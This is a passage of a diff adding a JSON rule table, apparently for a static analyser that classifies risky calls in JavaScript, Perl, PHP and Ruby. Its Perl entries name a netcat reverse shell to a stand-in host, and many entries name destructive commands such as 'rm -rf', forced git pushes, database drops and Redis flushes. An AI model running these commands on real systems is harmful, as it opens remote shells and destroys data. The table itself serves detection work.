+Deno.env.toObject":"environment","Deno.env.get":"environment $0","path.join":"join-parts","path.posix.join":"join-parts","path.resolve":"join $all","fetch":"ope\
+n-request $:method=GET $0:url:hostname:host $:body $:data $:json","http.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","https.re\
+quest":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","axios":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","got"\
+:"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","ky":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","node-fetch":"\
+open-request $:method=GET $0:url:hostname:host $:body $:data $:json","request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.fet\
+ch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json"\
+,"axios.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","http.get":"calls-back request GET $0:url:hostname:host $:body $:data $:j\
+son","https.get":"calls-back request GET $0:url:hostname:host $:body $:data $:json","axios.get":"request GET $0:url:hostname:host $:body $:data $:json","got.get\
+":"request GET $0:url:hostname:host $:body $:data $:json","ky.get":"request GET $0:url:hostname:host $:body $:data $:json","superagent.get":"request GET $0:url:\
+hostname:host $:body $:data $:json","needle.get":"request GET $0:url:hostname:host $:body $:data $:json","$.get":"request GET $0:url:hostname:host $:body $:data\
+ $:json","axios.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","got.post":"open-request POST $0:url:hostname:host $:body $:data $:json $\
+1","ky.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","superagent.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1"\
+,"needle.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","$.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","axios\
+.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","got.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","ky.put":"open-r\
+equest PUT $0:url:hostname:host $:body $:data $:json $1","superagent.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","needle.put":"open-req\
+uest PUT $0:url:hostname:host $:body $:data $:json $1","$.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","axios.patch":"open-request PATCH\
+ $0:url:hostname:host $:body $:data $:json $1","got.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","ky.patch":"open-request PATCH $0:u\
+rl:hostname:host $:body $:data $:json $1","superagent.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","needle.patch":"open-request PATC\
+H $0:url:hostname:host $:body $:data $:json $1","$.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","axios.delete":"open-request DELETE \
+$0:url:hostname:host $:body $:data $:json $1","got.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","ky.delete":"open-request DELETE $\
+0:url:hostname:host $:body $:data $:json $1","superagent.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","needle.delete":"open-reques\
+t DELETE $0:url:hostname:host $:body $:data $:json $1","$.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","net.connect":"calls-back c\
+onnect $1:host=localhost $0:port","net.createConnection":"calls-back connect $1:host=localhost $0:port","tls.connect":"calls-back connect $1:host=localhost $0:p\
+ort","net.Socket":"made client","Buffer.from":"decode $0 $1","Buffer":"decode $0 $1","dns.lookup":"run nslookup $0","dns.resolve":"run nslookup $0","dns.resolve\
+4":"run nslookup $0","dns.resolveTxt":"run nslookup $0","dns.resolveAny":"run nslookup $0","db.dropDatabase":"run sql drop-database db","knex":"if-arg:map if-no\
+-sign:connects made mock | made rows","@electric-sql/pglite.PGlite":"if-none made mock","aws-sdk-client-mock.mockClient":"mock-class $0","test.mock.method":"spy\
+ $0 $1 $2","jest.spyOn":"spy $0 $1 $2","vi.spyOn":"spy $0 $1 $2","sinon.spy":"spy $0 $1 $2","sinon.stub":"if-none mock | spy $0 $1 $2 stub","sinon.replace":"imi\
+tate $0 $1 $2","sinon.createSandbox":"name sinon","jest.fn":"mock","vi.fn":"mock","sinon.fake":"mock","test.mock.fn":"mock","msw/node.setupServer":"made msw","@\
+testcontainers/postgresql.PostgreSqlContainer":"made container","pg.Pool":"if-gets:container if-no-sign:reads-environment made database :memory:","pg.Client":"i\
+f-gets:container if-no-sign:reads-environment made database :memory:","nock.disableNetConnect":"if-no-sign:besides-http if-unset:NOCK_OFF imitate requests","dri\
+zzle":"made drizzle","sql":"sql $0","bun.sql":"sql $0","Bun.sql":"sql $0","kysely.sql":"sql $0","WebSocket":"made connection $0","ws":"made connection $0","ws.W\
+ebSocket":"made connection $0","pm2.delete":"run pm2 delete $0","Object.fromEntries":"from-pairs $0","worker_threads.Worker":"if-option:eval=true eval $0","Work\
+er":"if-option:eval=true eval $0","URL":"if-args:2 value $self | value $0","fs.opendir":"calls-back folder $0 dirent","Proxy":"made proxy $1","node-linux.Servic\
+e":"made service","node-windows.Service":"made service","node-mac.Service":"made service","memfs.memfs":"made mock","memfs.createFsFromVolume":"made mock","driz\
+zle-orm.sql":"value $0","Promise.all":"value $0","Promise.allSettled":"value $0","util.promisify":"value $0","Map":"value $0","Set":"value $0","std.walk":"folde\
+r $0 below","std.expandGlob":"folder $0 below","Reflect":"value","Reflect.get":"attribute $0 $1","Reflect.apply":"invoke $0 $2","Reflect.construct":"invoke $0 $\
+1","mock-fs":"if-no-sign:keeps-real imitate files","mock-fs.default":"if-no-sign:keeps-real imitate files","mock-fs.restore":"end-imitation files"},"methods":{"\
+write":"send $self $0 append","send":"send $self $0 append","install":"if-made:service run systemctl enable --now x","end":"if-args:1 send $self $0 append","con\
+nect":"if-made:client calls-back connect $1:host=localhost $0:port","pipe":"pipe $self $0","pipeTo":"pipe $self $0","on":"listen $self $0 $1","once":"listen $se\
+lf $0 $1","addListener":"listen $self $0 $1","emit":"emit $0 $1..","then":"then","finally":"then","method":"if-owner:^mock$ spy $0 $1 $2","start":"if-made:conta\
+iner value $self","getConnectionUri":"if-made:container value $self","mockImplementation":"answer-spy $0","callsFake":"answer-spy $0","mockReturnValue":"answer-\
+spy $0 returned","mockResolvedValue":"answer-spy $0 returned","mockRejectedValue":"answer-spy $0 returned","returns":"answer-spy $0 returned","resolves":"answer\
+-spy $0 returned","rejects":"answer-spy $0 returned","listen":"if-made:msw if-option:onUnhandledRequest=error if-no-sign:besides-fetch imitate requests","close"\
+:"if-made:msw end-imitation requests","toString":"value $self","text":"value $self","json":"value $self","unref":"value $self","bind":"made bound $self $1..","d\
+elete":"if-made:drizzle if-no-sign:limits run sql delete-all rows | if-database if-arg:name if-no-sign:limits run sql delete-all $owner","destroy":"if-option:tr\
+uncate=true run sql truncate rows | if-option:where={} run sql delete-all rows","getVolume":"made docker-volume","scan":"if-made:glob globs $origin","scanSync":\
+"if-made:glob globs $origin","runInThisContext":"if-made:vm-script eval $origin","runInNewContext":"if-made:vm-script eval $origin","runInContext":"if-made:vm-s\
+cript eval $origin","push":"if-list append $self $all","unshift":"if-list append $self $all","splice":"if-list append $self $all","put":"if-made:sftp run scp -r\
+ $0 host:/x","fastPut":"if-made:sftp run scp -r $0 host:/x","uploadDir":"if-made:sftp run scp -r $0 host:/x","deleteLocalBranch":"if-git if-says:^true$ run git \
+branch -D","deleteLocalBranches":"if-git if-says:^true$ run git branch -D","sendMail":"sends-files","sendCommand":"if-stored program redis-cli $all","pipeline":\
+"if-stored program redis-cli $all","multi":"if-stored program redis-cli $all","scanStream":"if-stored entries keys","scanIterator":"if-stored entries keys","key\
+s":"if-stored if-args:1 entries keys","del":"if-gets:keys run sql flush FLUSHDB | if-made:rows run sql delete-all rows","unlink":"if-gets:keys run sql flush FLU\
+SHDB","update":"if-made:rows if-no-sign:limits run sql update-all rows","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --hard","clean":"if-made:gi\
+t if-says:^n[dfxq]*$|^-\\\\w*n\\\\w*$|DRY_RUN$ run git clean -n | if-made:git run git clean -fd","rollback":"if-name:migrate if-args:2 run sql drop-table rows","exe\
+c":"if-made:ssh shell $0 | sql $0:query:sql:text","execCommand":"if-made:ssh shell $0","remove":"if-made:docker-volume run docker volume rm $self | if-database \
+if-empty run sql delete-all $owner","pruneVolumes":"run docker volume prune -af","drop":"if-database run sql drop-collection $owner","query":"sql $0:query:sql:t\
+ext","execute":"sql $0:query:sql:text","$executeRawUnsafe":"sql $0:query:sql:text","$executeRaw":"sql $0:query:sql:text","$queryRawUnsafe":"sql $0:query:sql:tex\
+t","$queryRaw":"sql $0:query:sql:text","run":"sql $0:query:sql:text","prepare":"sql $0:query:sql:text","raw":"sql $0:query:sql:text","unsafe":"sql $0:query:sql:\
+text","command":"sql $0:query:sql:text","batch":"sql $0:query:sql:text","executeQuery":"sql $0:query:sql:text","sync":"if-option:force=true run sql drop-table r\
+ows","getSiblingDB":"name db","getSisterDB":"name db","getDB":"name db","getCollection":"name db.collection","explain":"name cache","runCommand":"if-option:drop\
+Database run sql drop-database db | if-option:drop run sql drop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase \
+run sql drop-user all","adminCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop run sql drop-collection $:drop | if-option:shutdown run \
+sql shutdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","dropUser":"if-database run sql drop-user $owner","dropAllUsers":"if-database run sq\
+l drop-user $owner","shutdownServer":"if-database run sql shutdown $owner","truncate":"if-made:rows run sql delete-all rows"}},"perl":{"lexer":{"comment":["#"],\
+"sigils":"$@%","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"q","heredoc":"perl","patterns":true,"lines":"none"},"program":"perl","b\
+locks":"braces","member_operators":["->","::"],"concatenation_operators":[".","x"],"bare_calls":true,"function_keywords":["sub"],"inputs":{"@ARGV":"args","$ARGV\
+":"args","\\"@ARGV\\"":"joined-args","$ENV":"environment","%ENV":"environment","$_":"text","STDIN":"text"},"sdks":[],"texts":{"$0":"./program.pl","STDIN":"\\ufffc"\
+},"aliases":{},"rewrites":[["^&",""]],"functions":{"tempdir":"value /tmp/\\ufffc","File.Temp.tempdir":"value /tmp/\\ufffc","File.Temp.newdir":"value /tmp/\\ufffc",\
+"getcwd":"value .","Cwd.getcwd":"value .","Cwd.cwd":"value .","values":"values $0","shift":"take $0","pop":"take $0","print":"print text","say":"print line","re\
+adline":"input","system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","exec":"if-sign:socket-shell run nc -e /bin/sh shell.exam\
+ple.net 443 | command $all","CORE.system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.exec":"if-sign:socket-shell run nc\
+ -e /bin/sh shell.example.net 443 | command $all","readpipe":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","systemx":"if-sign:so\
+cket-shell run nc -e /bin/sh shell.example.net 443 | command $all","capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC\
+.System.Simple.systemx":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Simple.capturex":"if-sign:socket-shell run nc \
+-e /bin/sh shell.example.net 443 | command $all","eval":"eval $0","unlink":"run rm $all","rmdir":"run rmdir $all","rmtree":"run rm -rf $0","File.Path.rmtree":"r\
+un rm -rf $0","remove_tree":"run rm -rf $all","File.Path.remove_tree":"run rm -rf $all","rename":"run mv $0 $1","move":"run mv $0 $1","copy":"run cp $0 $1","sym\
+link":"run ln -s $0 $1","link":"run ln $0 $1","truncate":"run truncate -s 0 $0","chmod":"chmod $1.. $0","chown":"run chown $0 $2..","kill":"kill $1.. $0","fork"\
+:"if-sign:repeats run fork","open":"open-perl $1 $2..","find":"find","finddepth":"find","File.Find.find":"find","File.Find.finddepth":"find","do":"if-arg:text r\
+ead $0","glob":"glob $0","readdir":"names .","Config.Tiny.read":"read $0","Config.INI.Reader.read_file":"read $0","LoadFile":"read $0","YAML.XS.LoadFile":"read \
+$0","YAML.LoadFile":"read $0","read_file":"read $0","File.Slurp.read_file":"read $0","slurp":"read $0","retrieve":"read $0","Storable.retrieve":"read $0","recv"\
+:"received","LWP.Simple.get":"request GET $0","get":"request GET $0","POSIX.setuid":"run setuid $0","setuid":"run setuid $0","pack":"pack $0 $1..","Net.OpenSSH.\
+new":"made ssh","Net.SSH.Perl.new":"made ssh","Net.SSH2.new":"made ssh","LWP.UserAgent.new":"made rest","HTTP.Tiny.new":"made rest","Mojo.UserAgent.new":"made r\
+est","MongoDB.connect":"made mongo","MongoDB.MongoClient.new":"made mongo","Net.LDAP.new":"made service","Net.LDAPS.new":"made service","MIME.Lite.attach":"send\
+s-files","unpack":"if-says:^u fold unread $1","run3":"program $0","IPC.Run3.run3":"program $0","path":"join $all","Path.Tiny.path":"join $all"},"methods":{"do":\
+"sql $0","prepare":"sql $0","execute":"sql $0","system":"if-made:ssh command $all","capture":"if-made:ssh command $all","capture2":"if-made:ssh command $all","p\
+ipe_out":"if-made:ssh command $all","pipe_in":"if-made:ssh command $all","exec":"if-made:ssh command $all","channel":"if-made:ssh value $self","delete":"if-made\
+:rest request-over DELETE $0","get":"if-made:rest request-over GET $0","post":"if-made:rest request-over POST $0 $1","post_form":"if-made:rest request-over POST\
+ $0 $1","put":"if-made:rest request-over POST $0 $1","get_database":"if-made:mongo value $self","get_collection":"if-made:mongo value $self","ns":"if-made:mongo\
+ value $self","db":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:keys ru\
+n sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","visit":"if-text calls-back glob $self **","spew":"if-text write $self $0","spew_utf8":"if-te\
+xt write $self $0","spew_raw":"if-text write $self $0","remove":"if-text run rm $self","remove_tree":"if-text run rm -rf $self","children":"if-text folder $self\
+","slurp":"if-text read $self","slurp_utf8":"if-text read $self","slurp_raw":"if-text read $self"}},"php":{"lexer":{"comment":["//","#"],"block_comment":["/*","\
+*/"],"sigils":"$","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"none","heredoc":"php","patterns":false,"lines":"none"},"program":"ph\
+p","blocks":"braces","member_operators":["->","::","?->"],"concatenation_operators":["."],"bare_calls":false,"function_keywords":["function"],"inputs":{"$argv":\
+"argv","$_SERVER":"server","$_ENV":"environment","$_GET":"peer","$_POST":"peer","$_REQUEST":"peer","$_COOKIE":"peer"},"sdks":["drupal.entitytypemanager","aws.",\
+"google.cloud.","stripe.","microsoftazure.","digitaloceanv2.","github.","gitlab.","cloudflare.","twilio.","s3client","ec2client","rdsclient","dynamodbclient","r\
+oute53client","sqsclient","kmsclient","secretsmanagerclient","iamclient","lambdaclient","cloudformationclient","eksclient","ecsclient","ecrclient","snsclient","\
+ssmclient","elasticacheclient","efsclient","redshiftclient","glacierclient","backupclient","organizationsclient","cloudfrontclient","cloudwatchlogsclient","cogn\
+itoidentityproviderclient","opensearchserviceclient","kinesisclient","autoscalingclient","lightsailclient","neptuneclient","docdbclient","apigatewayclient","acm\
+client","storageclient","bigqueryclient","stripeclient","mailchimpmarketing.","mailgun.","algolia.","shopify.","elastic.","hubspot.","auth0.","cloudinary."],"te\
+xts":{"__DIR__":".","__FILE__":"./program.php"},"aliases":{},"rewrites":[["^(?:\\\\w+\\\\.)*(filesystem|httpclient|ssh2|\\\\w+iterator|splfileobject|pdo|process|\\\\w{2\
+,}client)(?=$|\\\\.\\\\w+$)","$1"]],"case_sensitive":false,"functions":{"memcached":"made memcached","memcache":"made memcached","eval":"eval $0","assert":"if-arg:t\
+ext eval $0","create_function":"eval $1","storage.disk":"if-no-sign:faked-storage if-says:^(s3|gcs|azure|r2|spaces|minio) made service","config":"if-says:(secre\
+t|password|token|[-_.]key)$|^database\\\\.connections(\\\\.\\\\w+)?(\\\\.url)?$ secret","dump":"print line","dd":"print line","var_dump":"print line","print_r":"print l\
+ine","include":"include $0","require":"include $0","include_once":"include $0","require_once":"include $0","system":"shell $0","exec":"shell $0","shell_exec":"s\
+hell $0","passthru":"shell $0","popen":"shell $0","proc_open":"shell $0","pcntl_system":"shell $0","unlink":"run rm $0","rmdir":"run rmdir $0","rename":"run mv \
+$0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run ln $0 $1","chmod":"chmod $0 $1","chown":"run chown $1 $0","wp_insert_user":"if-says:^admini\
+strator$ run wp user create --role=administrator","wp_delete_post":"if-args:2 run sql delete-all posts","wp_delete_attachment":"if-args:2 run sql delete-all pos\
+ts","wp_delete_user":"if-args:2 run sql delete-all posts","wp_delete_comment":"if-args:2 run sql delete-all posts","wp_delete_term":"if-args:2 run sql delete-al\
+l posts","file_get_contents":"if-args:3 request POST $0 $2 | read $0","stream_context_create":"made context $0","file":"read $0","readfile":"read $0","show_sour\
+ce":"read $0","highlight_file":"read $0","curlfile":"read $0","curl_file_create":"read $0","parse_ini_file":"read $0","yaml_parse_file":"read $0","simplexml_loa\
+d_file":"read $0","socket_read":"received","stream_socket_recvfrom":"received","stream_socket_accept":"made peer","socket_accept":"made peer","file_put_contents\
+":"write $0 $1 $2","fopen":"open $0 $1","splfileobject":"open $0 $1","fwrite":"send $0 $1","fputs":"send $0 $1","posix_kill":"kill $0 $1","posix_setuid":"run se\
+tuid $0","pcntl_fork":"if-sign:repeats run fork","pcntl_exec":"program $all","mail":"run sendmail $0","fsockopen":"connect $all","curl_init":"made request $0","\
+curl_exec":"request GET $0","curl_setopt":"if-says:^DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","curl_setopt_array":"if-says:^D\
+ELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","call_user_func":"invoke $0 $1..","call_user_func_array":"invoke $0 $1","getenv":"en\
+vironment $0","dirname":"dirname $0","getcwd":"value .","json_decode":"parse-json $0","fgets":"if-gets:peer received | if-gets:connection received | input","fre\
+ad":"if-gets:peer received | if-gets:connection received | input","stream_get_contents":"if-gets:peer received | if-gets:connection received | input","readline"\
+:"if-gets:peer received | if-gets:connection received | input","glob":"glob $0","globiterator":"glob $0","scandir":"names $0","recursivedirectoryiterator":"fold\
+er $0","directoryiterator":"folder $0","filesystemiterator":"folder $0","recursiveiteratoriterator":"value $0","escapeshellarg":"value $0","escapeshellcmd":"val\
+ue $0","array_slice":"value $0","array_reverse":"value $0","array_unique":"value $0","array_values":"value $0","mysqli_query":"sql $1","mysqli_multi_query":"sql\
+ $1","mysqli_real_query":"sql $1","sqlsrv_query":"sql $1","oci_parse":"sql $1","odbc_exec":"sql $1","pg_query":"sql $1 | sql $0","pg_send_query":"sql $1 | sql $\
+0","db.delete":"sql $0","db.update":"sql $0","db.statement":"sql $0","db.unprepared":"sql $0","db.table":"made rows","schema.drop":"run sql drop-table $0","sche\
+ma.dropifexists":"run sql drop-table $0","schema.dropalltables":"run sql drop-schema db","artisan.call":"run php artisan $0","base_path":"join . $0","app_path":\
+"join app $0","database_path":"join database $0","resource_path":"join resources $0","storage_path":"join storage $0","filesystem":"made filesystem","file.delet\
+edirectory":"run rm -rf $0","file.cleandirectory":"run rm -rf $0","guzzlehttp.client":"if-sign:http-client made rest $all","client":"if-sign:http-client made re\
+st $all","httpclient.create":"if-sign:http-client made rest $all","mongodb.client":"made mongo","process":"if-arg:list shell $0","process.fromshellcommandline":\
+"if-arg:text shell $0","process.run":"if-arg:text shell $0","process.start":"if-arg:text shell $0","http.withtoken":"made rest","http.withheaders":"made rest","\
+http.withbasicauth":"made rest","http.acceptjson":"made rest","http.baseurl":"made rest $0","http.delete":"request DELETE $0","http.post":"request POST $0 $1","\
+ssh2":"made ssh","ssh2_exec":"shell $1"},"methods":{"set_role":"if-says:^administrator$ run wp user create --role=administrator","add_role":"if-says:^administra\
+tor$ run wp user create --role=administrator","query":"sql $0","prepare":"sql $0","executestatement":"sql $0","executequery":"sql $0","executeupdate":"sql $0","\
+createquery":"sql $0","real_query":"sql $0","multi_query":"sql $0","truncate":"run sql truncate $owner","gettruncatetablesql":"made whole","getdroptablesql":"ma\
+de whole","getdropschemasql":"made whole","getdropdatabasesql":"made whole","exec":"if-made:ssh shell $0 | sql $0","dropschema":"if-kept run sql drop-schema $ow\
+ner","createquerybuilder":"made builder","delete":"if-made:builder if-no-sign:limits run sql delete-all $0 | if-made:rest request-over DELETE $0","remove":"if-m\
+ade:filesystem run rm -rf $0","request":"if-made:rest request-over $0 $1 $2:json:body","post":"if-made:rest request-over POST $0 $1:json:body","get":"if-made:re\
+st request-over GET $0","selectdatabase":"if-made:mongo value $self","selectcollection":"if-made:mongo value $self","getdatabase":"if-made:mongo value $self","g\
+etcollection":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:keys run sql\
+ flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","call":"if-says:^migrate.(fresh|reset|refresh)$|^db.wipe$ run php artisan migrate:fresh","flush":"\
+if-made:memcached run sql flush FLUSHALL","update":"if-made:rows run sql update-all rows","openfile":"if-text open $self $0","fwrite":"send $self $0","getpathna\
+me":"value $self","getrealpath":"value $self","deletedirectory":"run sql drop-bucket $0","cleandirectory":"run sql drop-bucket $0"}},"ruby":{"lexer":{"comment":\
+["#"],"sigils":"$@","interpolation":"hash","triple":false,"single_escapes":false,"quoting":"percent","heredoc":"ruby","patterns":true,"lines":"statements"},"pro\
+gram":"ruby","blocks":"end","member_operators":[".","::","&."],"concatenation_operators":["<<"],"bare_calls":true,"function_keywords":["def"],"inputs":{"ARGV":"\
+args","$*":"args","ENV":"environment","$_":"text","STDIN":"lines","$stdin":"lines","ARGF":"lines","params":"peer"},"sdks":["Aws.","Google.Cloud.","Azure.","Stri\
+pe.","Bunny.","ShopifyAPI.","Vault.","Slack.","SendGrid.","Cloudflare.","Kubeclient.","Octokit.","Gitlab.","Elasticsearch.","DropletKit.","Fog.","Algolia.","Twi\
+lio."],"texts":{"__FILE__":"./program.rb","__dir__":"."},"aliases":{"rm_f":"FileUtils.rm_f","rm_r":"FileUtils.rm_r","rm_rf":"FileUtils.rm_rf","rmtree":"FileUtil\
+s.rmtree","remove_dir":"FileUtils.remove_dir","remove_entry":"FileUtils.remove_entry","cp_r":"FileUtils.cp_r","remove_entry_secure":"FileUtils.remove_entry_secu\
+re","chmod_R":"FileUtils.chmod_R","chown_R":"FileUtils.chown_R"},"rewrites":[["^(?:Kernel|Object|self)\\\\.",""]],"functions":{"puts":"print line","p":"print line\
+","pp":"print line","print":"print text","gets":"input","readlines":"input","Rails.application":"name rails_application","ActiveRecord.Tasks.DatabaseTasks.drop_\
+current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.drop_all":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.purge_current":"run\
+ sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.truncate_all":"run sql drop-database db","rails_application.credentials":"secret","Vault.logical.read":\
+"secret","Vault.kv.read":"secret","const_get":"module $0","constantize":"module $0","Rake.Task.[]":"made rake $0","Rake.Application.[]":"made rake $0","Git.open\
+":"made git","Git.clone":"made git","Git.init":"made git","Git.bare":"made git","Rugged.Repository.new":"made git","send":"invoke $0 $1..","public_send":"invoke\
+ $0 $1..","__send__":"invoke $0 $1..","Dir.[]":"globs $all","Rake.FileList.[]":"globs $all","FileList.[]":"globs $all","Rake.FileList.new":"globs $all","FileLis\
+t.new":"globs $all","Sequel.connect":"made sequel","Sequel.postgres":"made sequel","Sequel.mysql2":"made sequel","Sequel.sqlite":"made sequel","Sequel.tinytds":\
+"made sequel","Sequel.oracle":"made sequel","Sequel.jdbc":"made sequel","IO.popen":"calls-back if-arg:list command $all | calls-back shell $0","Open3.popen2":"c\
+alls-back command $all","Open3.popen2e":"calls-back command $all","Open3.popen3":"calls-back command $all","system":"command $all","exec":"command $all","spawn"\
+:"command $all","Open3.capture2":"command $all","Open3.capture2e":"command $all","Open3.capture3":"command $all","PTY.spawn":"command $all","Process.Sys.setuid"\
+:"run setuid $0","Process.Sys.seteuid":"run setuid $0","Process.UID.change_privilege":"run setuid $0","Process.UID.grant_privilege":"run setuid $0","eval":"eval\
+ $0","instance_eval":"eval $0","class_eval":"eval $0","module_eval":"eval $0","TOPLEVEL_BINDING.eval":"eval $0","binding.eval":"eval $0","Sidekiq.Queue.new":"ma\
+de sidekiq","Sidekiq.RetrySet.new":"made sidekiq","Sidekiq.ScheduledSet.new":"made sidekiq","Sidekiq.DeadSet.new":"made sidekiq","Sidekiq.Queue.all":"entries si\
+dekiq","Resque.remove_queue":"run celery purge","Docker.Volume.all":"entries docker-volume","Sequel.mock":"made mock","MockRedis.new":"made mock","Docker.Volume\
+.get":"made docker-volume","Docker.Volume.prune":"run docker volume prune -af","ObjectSpace.each_object":"entries model","Mongo.Client.new":"made mongo","Mongoi\
+d.default_client":"made mongo","Mongoid.Clients.default":"made mongo","Mongoid.client":"made mongo","Mongoid.Clients.with_name":"made mongo","Mongoid.purge!":"r\
+un sql drop-database mongoid","Mongoid.truncate!":"run sql drop-database mongoid","Mongoid.Config.purge!":"run sql drop-database mongoid","Mongoid.Config.trunca\
+te!":"run sql drop-database mongoid","Net.SSH.start":"calls-back made ssh","open":"calls-back open $0 $1","File.open":"calls-back open $0 $1","File.new":"calls-\
+back open $0 $1","URI.open":"request GET $0","Net.HTTP.get":"request GET $0","HTTParty.get":"request GET $0","Faraday.get":"request GET $0","RestClient.get":"re\
+quest GET $0","HTTP.get":"request GET $0","Excon.get":"request GET $0","Typhoeus.get":"request GET $0","Net.HTTP.post":"request POST $0 $1 $:body $:json $:form"\
+,"Net.HTTP.post_form":"request POST $0 $1 $:body $:json $:form","HTTParty.post":"request POST $0 $1 $:body $:json $:form","Faraday.post":"request POST $0 $1 $:b\
+ody $:json $:form","RestClient.post":"request POST $0 $1 $:body $:json $:form","HTTP.post":"request POST $0 $1 $:body $:json $:form","Excon.post":"request POST \
+$0 $1 $:body $:json $:form","Typhoeus.post":"request POST $0 $1 $:body $:json $:form","HTTParty.delete":"request DELETE $0","Faraday.delete":"request DELETE $0"\
+,"RestClient.delete":"request DELETE $0","HTTP.delete":"request DELETE $0","Excon.delete":"request DELETE $0","Typhoeus.delete":"request DELETE $0","Net.HTTP.De\
+lete.new":"open-request DELETE $0","RubyVM.InstructionSequence.compile":"value $0","URI":"value $0","URI.parse":"value $0","File.expand_path":"value $0","Pathna\
+me":"value $0","Pathname.new":"value $0","File.read":"read $0","IO.read":"read $0","File.readlines":"read $0","File.foreach":"read $0","File.binread":"read $0",\
+"IO.readlines":"read $0","IO.binread":"read $0","YAML.load_file":"read $0","YAML.safe_load_file":"read $0","YAML.unsafe_load_file":"read $0","Psych.load_file":"\
+read $0","JSON.load_file":"read $0","CSV.read":"read $0","CSV.foreach":"read $0","CSV.table":"read $0","Dotenv.parse":"read $0","IniFile.load":"read $0","TomlRB\
+.load_file":"read $0","PStore.new":"read $0","File.write":"write $0 $1","IO.write":"write $0 $1","File.delete":"run rm $all","File.unlink":"run rm $all","FileUt\
+ils.rm":"run rm $all","FileUtils.remove":"run rm $all","Dir.rmdir":"run rmdir $0","Dir.delete":"run rmdir $0","Dir.unlink":"run rmdir $0","FileUtils.rm_f":"run \
+rm -f $all","FileUtils.rm_r":"run rm -r $all","FileUtils.rm_rf":"run rm -rf $all","FileUtils.rmtree":"run rm -rf $all","FileUtils.remove_dir":"run rm -rf $all",\
+"FileUtils.remove_entry":"run rm -rf $all","FileUtils.remove_entry_secure":"run rm -rf $all","FileUtils.mv":"run mv $0 $1","File.rename":"run mv $0 $1","FileUti\
+ls.cp":"run cp $0 $1","FileUtils.cp_r":"run cp -r $0 $1","FileUtils.ln_s":"run ln -s $0 $1","File.symlink":"run ln -s $0 $1","FileUtils.chmod":"chmod $1 $0","Fi\
+leUtils.chmod_R":"run chmod -R $0 $1","FileUtils.chown_R":"run chown -R $0 $2","File.chmod":"chmod $1.. $0","File.chown":"run chown $0 $2..","File.truncate":"ru\
+n truncate -s 0 $0","File.join":"join $all","File.dirname":"dirname $0","Dir.home":"value ~","Dir.pwd":"value .","Dir.mktmpdir":"calls-back new-folder","Dir.tmp\
+dir":"value /tmp","Dir.glob":"calls-back glob $0","Pathname.glob":"calls-back glob $0","Dir.children":"names $0","Dir.entries":"names $0","Dir.each_child":"name\
+s $0","Find.find":"calls-back folder $0","Process.kill":"kill $1.. $0","Process.uid":"value","fork":"if-sign:repeats run fork","TCPSocket.new":"connect $all","T\
+CPSocket.open":"connect $all"},"methods":{"collections":"if-made:mongo entries mongo","push":"if-says:^\\\\+refs run git push --force origin","invoke":"if-made:ra\
+ke run rake $origin","execute":"if-made:rake run rake $origin | sql $0","write":"send $self $0","puts":"send $self $0","exec_params":"sql $0","query":"sql $0","\
+async_exec":"sql $0","run":"sql $0","exec_query":"sql $0","exec":"if-made:ssh shell $0 | sql $0","method":"method $self $0","const_get":"attribute $self $0","se\
+nd":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 $1..","then":"then","yield_self":"then","where":"if-made:some-row\
+s value $self | if-name made some-rows","not":"if-made:some-rows value $self | if-name made some-rows","rewhere":"if-made:some-rows value $self | if-name made s\
+ome-rows","find_each":"calls-back if-made:some-rows value $self | if-name calls-back made rows","in_batches":"calls-back if-made:some-rows value $self | if-name\
+ calls-back made rows","find_in_batches":"calls-back if-made:some-rows value $self | if-name calls-back made rows","update_all":"if-name run sql update-all $own\
+er","destroy":"if-made:some-rows if-none run sql delete-some rows | if-sign:unconditional if-made:rows if-none run sql delete-all rows","destroy!":"if-made:some\
